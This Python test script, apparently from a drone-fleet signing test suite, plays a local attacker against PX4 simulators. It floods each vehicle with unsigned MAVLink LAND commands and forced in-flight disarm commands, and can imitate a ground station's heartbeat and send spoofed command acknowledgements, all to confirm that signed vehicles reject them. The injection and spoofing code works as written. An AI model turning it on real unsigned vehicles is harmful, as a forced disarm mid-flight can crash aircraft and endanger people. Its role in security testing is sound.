"""A hostile local process that sends unsigned LAND and force-DISARM commands to every
vehicle's port: what a signed fleet rejects (the attacker of the flights against PX4 SITL).

    python -m tests.flight.rejected_commands --vehicles 127.0.0.1:24580=1,127.0.0.1:24581=2 \
        --rate 40 --duration 30 [--style mavsdk] [--gcs-ports 24540,24541]

Per vehicle (ADDRESS=SYSTEM_ID) it sends `rate` COMMAND_LONG per second, unsigned, alternating
MAV_CMD_NAV_LAND and MAV_CMD_COMPONENT_ARM_DISARM with param2 21196 (force), addressed to that
system id, from its own socket. Styles:

- ``raw``: only the commands, from system 255 component 190 (the GCS's own ids);
- ``mavsdk``: what a MAVSDK client does: its GCS HEARTBEAT at 1 Hz (system 245, component
  190, unsigned: PX4 accepts an unsigned HEARTBEAT even with a key), the commands from the
  same ids, each repeated with ``confirmation`` counting up like MAVSDK's retransmissions.

With ``--gcs-ports`` (one per vehicle, in order) it also sends each vehicle's GCS port, per
command, an unsigned COMMAND_ACK ACCEPTED for that command as if from the vehicle (system id,
component 1): the same process talking to both ends.

It stops after `duration` or when its stdin closes, and prints one JSON line at the start
(``{"ready": true}``) and one at the end: what it sent, to whom, and what it received back
(a vehicle that answered it would show here).
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import sys
import time

os.environ.setdefault("MAVLINK20", "1")

from pymavlink.dialects.v20 import common as mavlink

from tests.flight.attacker import drain

#: MAV_CMD_COMPONENT_ARM_DISARM's param2 that forces a disarm in flight.
FORCE = 21196.0
STYLES = ("raw", "mavsdk")
_IDS = {"raw": (255, 190), "mavsdk": (245, 190)}


def _command(mav: mavlink.MAVLink, system_id: int, k: int, confirmation: int) -> bytes:
    """The k-th command to `system_id`: NAV_LAND, then a forced disarm, alternately."""
    if k % 2 == 0:
        msg = mav.command_long_encode(system_id, 1, mavlink.MAV_CMD_NAV_LAND, confirmation,
                                      0, 0, 0, float("nan"), float("nan"), float("nan"), 0)
    else:
        msg = mav.command_long_encode(system_id, 1, mavlink.MAV_CMD_COMPONENT_ARM_DISARM,
                                      confirmation, 0, FORCE, 0, 0, 0, 0, 0)
    return msg.pack(mav)


def _spoofed_ack(system_id: int, k: int) -> bytes:
    """COMMAND_ACK ACCEPTED of the k-th command, as if from vehicle `system_id`."""
    mav = mavlink.MAVLink(None, srcSystem=system_id, srcComponent=1)
    command = mavlink.MAV_CMD_NAV_LAND if k % 2 == 0 else mavlink.MAV_CMD_COMPONENT_ARM_DISARM
    return mav.command_ack_encode(command, mavlink.MAV_RESULT_ACCEPTED, 0, 0, 255, 190).pack(mav)


def _targets(text: str) -> list[tuple[tuple[str, int], int]]:
    out = []
    for item in text.split(","):
        address, system_id = item.split("=")
        host, port = address.rsplit(":", 1)
        out.append(((host, int(port)), int(system_id)))
    return out


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--vehicles", required=True, help="HOST:PORT=SYSTEM_ID,...")
    parser.add_argument("--rate", type=float, default=40.0, help="commands/s per vehicle")
    parser.add_argument("--duration", type=float, required=True)
    parser.add_argument("--style", choices=STYLES, default="raw")
    parser.add_argument("--gcs-ports", default="")
    args = parser.parse_args()
    targets = _targets(args.vehicles)
    gcs_ports = [int(p) for p in args.gcs_ports.split(",") if p]
    if gcs_ports and len(gcs_ports) != len(targets):
        parser.error("--gcs-ports needs one port per vehicle")
    system, component = _IDS[args.style]
    mav = mavlink.MAVLink(None, srcSystem=system, srcComponent=component)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    print(json.dumps({"ready": True}), flush=True)
    start = time.monotonic()
    period = 1.0 / args.rate
    next_command, next_heartbeat, k = start, start, 0
    sent = {"commands": 0, "heartbeats": 0, "acks_to_gcs": 0}
    received, types = 0, set[str]()
    while (now := time.monotonic()) < start + args.duration:
        if args.style == "mavsdk" and now >= next_heartbeat:
            next_heartbeat += 1.0
            hb = mav.heartbeat_encode(mavlink.MAV_TYPE_GCS, mavlink.MAV_AUTOPILOT_INVALID, 0, 0,
                                      mavlink.MAV_STATE_ACTIVE).pack(mav)
            for address, _ in targets:
                sock.sendto(hb, address)
                sent["heartbeats"] += 1
        if now >= next_command:
            next_command += period
            if next_command < now:  # fell behind (a busy machine): no burst
                next_command = now + period
            confirmation = (k // 2) % 3 if args.style == "mavsdk" else 0
            for i, (address, system_id) in enumerate(targets):
                sock.sendto(_command(mav, system_id, k, confirmation), address)
                sent["commands"] += 1
                if gcs_ports:
                    sock.sendto(_spoofed_ack(system_id, k), ("127.0.0.1", gcs_ports[i]))
                    sent["acks_to_gcs"] += 1
            k += 1
        count, kinds = drain(sock)
        received += count
        types |= kinds
        wait = max(0.0, min(next_command, next_heartbeat if args.style == "mavsdk"
                            else next_command) - time.monotonic())
        if select.select([sys.stdin], [], [], min(wait, 0.05))[0]:
            break  # stdin closed (or written to): stop
    elapsed = time.monotonic() - start
    print(json.dumps({**sent, "seconds": round(elapsed, 3),
                      "commands_per_s_per_vehicle": round(
                          sent["commands"] / max(1, len(targets)) / max(elapsed, 1e-9), 2),
                      "received": received, "received_types": sorted(types)}), flush=True)


if __name__ == "__main__":
    main()
